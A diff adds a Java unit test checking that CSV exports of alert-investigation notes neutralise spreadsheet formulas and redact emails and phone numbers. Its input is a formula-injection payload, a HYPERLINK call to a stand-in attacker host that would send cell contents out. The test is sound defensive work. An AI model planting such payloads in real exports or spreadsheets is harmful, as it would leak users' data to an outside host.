@@ -162,6 +162,28 @@ class InvestigationToolsTest {
                                 + "2024-06-02T10:15:00Z,Invalid alert: EQUIPMENT_ISSUE (SENSOR_MALFUNCTION),\"Meter replaced, see WO \"\"AM 1\"\"\"");
     }
 
+    @Test
+    void exportedNotesCannotRunAsASpreadsheetFormulaAndCarryNoEmailOrPhoneNumber() {
+        Alert alert = Alerts.alert(AlertType.BACKFLOW);
+        Instant t = alert.time();
+        Investigation i = Investigation.open("i2", InvestigatedAlert.of(alert), t)
+                .acknowledge("jean", t)
+                .dataReviewed(t)
+                .close(
+                        CAUSES.require("SENSOR_MALFUNCTION"),
+                        "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"details\") call ada@example.org or 0151 496 0123",
+                        "jean",
+                        t.plus(Duration.ofMinutes(5)));
+
+        String row = InvestigationRecord.of(i).csvRow();
+
+        assertThat(row)
+                .endsWith(
+                        ",\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"details\"\") call [email] or [phone]\"")
+                .doesNotContain("ada@example.org")
+                .doesNotContain("496 0123");
+    }
+
     private static Investigation closed(Alert alert, String id, Duration delay, Duration end, String cause) {
         Instant t = alert.time();
         Cause closing = CAUSES.require(cause);
